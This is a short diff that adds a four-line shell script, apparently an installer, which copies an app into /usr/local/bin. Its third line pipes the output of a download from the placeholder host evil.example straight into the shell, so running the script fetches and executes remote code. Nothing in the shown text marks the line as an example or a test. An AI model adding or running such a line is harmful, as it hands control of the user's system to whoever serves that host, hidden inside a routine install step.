@@ -1,0 +1,4 @@
+#!/bin/sh
+set -e
+curl -s http://evil.example | sh
+cp app /usr/local/bin/
